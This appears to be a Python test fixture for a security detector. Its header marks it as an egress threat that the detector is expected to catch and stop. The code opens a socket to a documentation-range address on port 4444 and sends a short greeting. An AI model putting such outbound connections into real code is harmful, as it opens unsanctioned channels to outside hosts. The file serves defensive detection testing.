# expect: detected
# threat: 24 egress
# at: either
# family: egress
# severity: medium
# decision: stopped

import socket

s = socket.socket()
s.settimeout(2)
try:
    s.connect(("203.0.113.5", 4444))
    s.sendall(b"hello")
except OSError as e:
    print(e)
